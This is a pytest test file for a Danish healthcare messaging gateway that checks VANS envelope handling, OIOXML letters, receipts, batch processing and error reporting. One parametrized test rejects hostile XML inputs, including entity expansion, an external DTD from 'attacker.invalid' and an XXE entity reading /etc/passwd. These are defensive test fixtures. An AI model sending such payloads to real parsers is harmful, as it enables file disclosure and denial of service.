"""Envelopes, senders, receipts: what surrounds the letters."""

from __future__ import annotations

import base64
from datetime import UTC, datetime

import pytest
from lxml import etree

from gateway.errors import (
    GatewayError,
    MissingField,
    RuleBroken,
    Unavailable,
    UnknownCode,
    UnknownEvent,
    UnknownMessage,
    UnknownSource,
    Unreadable,
)
from gateway.translate import vans
from gateway.translate.oioxml import tree
from gateway.translate.oioxml.language import OioXml
from tests.translate.oioxml.letters import (
    CPR,
    HOSPITAL_EAN,
    NS_2005,
    SENDER,
    correspondence,
    enveloped,
    stay_letter,
    written,
)

NOW = datetime(2025, 3, 12, 21, 5, tzinfo=UTC)
LETTER = stay_letter("Admission", "2025-03-12", "21:15")
RAW = written(enveloped(LETTER))


def in_vans(content: bytes, size: int | None = None) -> bytes:
    return f"""<v:VANSEnvelope xmlns:v="{vans.NAMESPACE}"><v:SenderID EndPointType="EAN">{HOSPITAL_EAN}</v:SenderID>
<v:ReceiverID EndPointType="EAN">5790002508226</v:ReceiverID>
<v:EnvelopeIdentifier>5b0e3c0c-0000-4000-8000-000000000001</v:EnvelopeIdentifier>
<v:SentDateTime>2025-03-12T21:00:00Z</v:SentDateTime><v:Message><v:MetaInformation><v:Identifier>1</v:Identifier>
<v:Document><v:Format>XML</v:Format><v:Name>XDIS20</v:Name><v:SizeInBytes>{len(content) if size is None else size}
</v:SizeInBytes></v:Document><v:Transport><v:Type>unreliable</v:Type></v:Transport></v:MetaInformation>
<v:Data>{base64.encodebytes(content).decode()}</v:Data></v:Message></v:VANSEnvelope>""".encode()


def receipt(raw: bytes) -> dict[str, str]:
    """A receipt's elements by name; the last of each."""
    return {tree.name(node): tree.worded(node) for node in etree.fromstring(raw).iter() if len(node) == 0 or node.text}


def test_a_letter_is_the_same_bare_and_in_an_envelope(oioxml: OioXml) -> None:
    bare, inside = oioxml.translate(RAW), oioxml.translate(in_vans(RAW))
    assert (inside.statements, inside.fingerprint, inside.findings) == (bare.statements, bare.fingerprint, ())
    assert [one.where for one in oioxml.translate(in_vans(RAW, 7)).findings] == [
        "VANSEnvelope/Message/MetaInformation/Document/SizeInBytes"
    ]


def test_edifact_comes_out_of_its_envelope_as_it_is() -> None:
    content = "UNA:+.? 'UNB+UNOC:3+1+2'FTX+æøå'".encode("iso-8859-1")
    found = vans.opened(in_vans(content))
    assert found.content == content
    assert found.envelope is not None
    assert found.envelope.receiver == vans.Address("EAN", "5790002508226")


def test_the_answer_to_an_envelope_is_in_one_with_the_ends_exchanged(oioxml: OioXml) -> None:
    answer = vans.opened(oioxml.accept(in_vans(RAW), NOW))
    assert answer.envelope is not None
    assert (answer.envelope.sender.value, answer.envelope.receiver.value) == ("5790002508226", HOSPITAL_EAN)
    assert answer.content == oioxml.accept(RAW, NOW)
    assert oioxml.accept(in_vans(RAW), NOW) == oioxml.accept(in_vans(RAW), NOW)


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (in_vans(RAW).replace(b"<v:Data>", b"<v:Data>*"), GatewayError),
        (in_vans(in_vans(RAW)), RuleBroken),
        (in_vans(RAW).replace(b"v:EnvelopeIdentifier", b"v:Other"), MissingField),
        (in_vans(RAW).replace(b"v:Message>", b"v:Receipt>"), UnknownMessage),
        (in_vans(b"UNB+UNOC:3'"), UnknownMessage),
        (in_vans(b"?"), Unreadable),
    ],
)
def test_an_envelope_that_is_none_is_an_error(oioxml: OioXml, raw: bytes, kind: type[GatewayError]) -> None:
    with pytest.raises(kind):
        oioxml.translate(raw)
    assert oioxml.refuse(raw, kind(), NOW)


def test_a_receipt_is_given_where_it_is_asked_for(oioxml: OioXml) -> None:
    assert oioxml.accept(written(enveloped(LETTER, receipt=False)), NOW) == b""
    found = receipt(oioxml.accept(RAW, NOW))
    assert found["VersionCode"] == "XC0330Q"
    assert (found["OriginalEnvelopeIdentifier"], found["OriginalLetterIdentifier"]) == ("KUV1", "BREV1")
    assert found["AcknowledgementCode"] == "minuspositivkvitt"


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (MissingField(where="Emessage/X"), "syntaksfejl"),
        (UnknownEvent(), "problem_med_version"),
        (UnknownSource(), "ukendt_lokationsnummer"),
        (Unavailable(), "ikke_specificeret"),
    ],
)
def test_a_refusal_is_told_whether_asked_for_or_not(oioxml: OioXml, error: GatewayError, code: str) -> None:
    found = receipt(oioxml.refuse(written(enveloped(LETTER, receipt=False)), error, NOW))
    assert (found["VersionCode"], found["RefuseCode"]) == ("XC0230Q", code)
    assert error.where in found["RefuseText"]


def test_each_of_several_letters_is_received_by_itself(oioxml: OioXml) -> None:
    other = stay_letter("Admission", "2025-03-12", "21:15", cpr="2509479989", number="BREV2", code="syg")
    for wrap in (lambda raw: raw, in_vans):
        whole = wrap(written(enveloped(LETTER + other)))
        batch = oioxml.batch(whole)
        assert batch is not None
        first, second = batch.messages
        assert oioxml.translate(first).statements == oioxml.translate(RAW).statements
        with pytest.raises(UnknownCode) as error:
            oioxml.translate(second)
        answer = batch.answer([oioxml.accept(first, NOW), oioxml.refuse(second, error.value, NOW)], NOW)
        found = vans.opened(answer)
        assert (found.envelope is None) == (wrap is not in_vans)
        kinds = [tree.name(node) for node in etree.fromstring(found.content)]
        assert kinds == ["Envelope", "PositiveReceipt", "NegativeReceipt"]
        assert batch.answer([b"", b""], NOW) == b""


@pytest.mark.parametrize("raw", [RAW, b"", b"<", b"<Letter><Letter>", in_vans(RAW), b"<a><Letter/><Letter/></a>"])
def test_a_letter_alone_is_no_several(oioxml: OioXml, raw: bytes) -> None:
    assert oioxml.batch(raw) is None


def test_several_letters_are_not_read_as_one(oioxml: OioXml) -> None:
    other = stay_letter("Admission", "2025-03-12", "21:15", cpr="2509479989", number="BREV2")
    with pytest.raises(RuleBroken) as error:
        oioxml.translate(written(enveloped(LETTER + other)))
    assert error.value.where == "Emessage/NotificationOfAdmission[2]"


def test_a_receipt_is_read_and_never_answered(oioxml: OioXml) -> None:
    for answer, outcome in (
        (oioxml.accept(RAW, NOW), "ok"),
        (oioxml.refuse(RAW, MissingField(where="Emessage/X"), NOW), "fatal-error"),
    ):
        back = answer.replace(b">5790002508226<", b">5790000120420<")
        found = oioxml.translate(back)
        assert found.receipt is not None
        assert (found.receipt.of, found.receipt.outcome) == ("BREV1", outcome)
        assert (found.citizen, found.statements) == ((), ())
        assert oioxml.accept(back, NOW) == b""


def test_what_no_receipt_can_be_addressed_to_gets_an_outcome(oioxml: OioXml) -> None:
    for raw in (b"", b"\xff\x00", b"<a/>", RAW.replace(b"EANIdentifier", b"Ean")):
        assert b"OperationOutcome" in oioxml.refuse(raw, Unreadable(where="line 1"), NOW)


@pytest.mark.parametrize(
    ("number", "code", "source"),
    [("101", "kommunenummer", "city"), ("0101", "kommunenummer", "city"), ("173", "kommunenummer", "neighbour")],
)
def test_municipalities_are_told_by_their_number_not_by_the_location_they_share(
    oioxml: OioXml, number: str, code: str, source: str
) -> None:
    sender = f"""<Sender><EANIdentifier>5790002508226</EANIdentifier><Identifier>{number}</Identifier>
<IdentifierCode>{code}</IdentifierCode><OrganisationName>En kommune</OrganisationName></Sender>"""
    found = oioxml.translate(written(enveloped(correspondence(sender=sender))))
    assert found.source.id == source


def test_a_sender_that_nobody_registered_is_refused(oioxml: OioXml) -> None:
    with pytest.raises(UnknownSource) as error:
        oioxml.translate(RAW.replace(HOSPITAL_EAN.encode(), b"5790009999999").replace(b"1301380", b"1"))
    assert error.value.where == "Emessage/NotificationOfAdmission/Sender/EANIdentifier"


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (b'<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Emessage>&b;</Emessage>', Unreadable),
        (b'<!DOCTYPE s SYSTEM "http://attacker.invalid/s.dtd"><Emessage/>', Unreadable),
        (b'<!DOCTYPE s [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><Emessage/>', Unreadable),
        (b"<Emessage>" + b"<Letter>" * 300 + b"</Letter>" * 300 + b"</Emessage>", Unreadable),
        (b"<Emessage/>", MissingField),
        (b"<Emessage><Envelope/></Emessage>", MissingField),
        (b"<Message/>", UnknownMessage),
        (written(enveloped("<DischargeLetter>" + LETTER.partition(">")[2].replace("NotificationOfAdmission",
         "DischargeLetter"))), UnknownEvent),
        (written(enveloped(LETTER.replace(SENDER, SENDER * 2))), RuleBroken),
        (written(enveloped(correspondence(extra="<Reference><SUP>true</SUP></Reference>" * 11))), RuleBroken),
        (written(enveloped(LETTER.replace("<Time>21:15", "<Time>25:15"))), GatewayError),
        (written(enveloped(LETTER.replace(CPR, "251248999"))), GatewayError),
        (written(enveloped(LETTER.replace("2025-03-12", "2025-02-30"))), GatewayError),
    ],
)  # fmt: skip
def test_hostile_and_broken_letters_are_errors_with_a_place_and_no_value(
    oioxml: OioXml, raw: bytes, kind: type[GatewayError]
) -> None:
    with pytest.raises(kind) as error:
        oioxml.translate(raw)
    assert error.value.where
    assert CPR not in error.value.told()
    assert oioxml.refuse(raw, error.value, NOW)


def test_a_place_names_which_of_several(oioxml: OioXml) -> None:
    raw = written(enveloped(LETTER.replace(SENDER, SENDER * 2), namespace=NS_2005))
    with pytest.raises(RuleBroken) as error:
        oioxml.translate(raw)
    assert error.value.where == "Emessage/NotificationOfAdmission/Sender[2]"
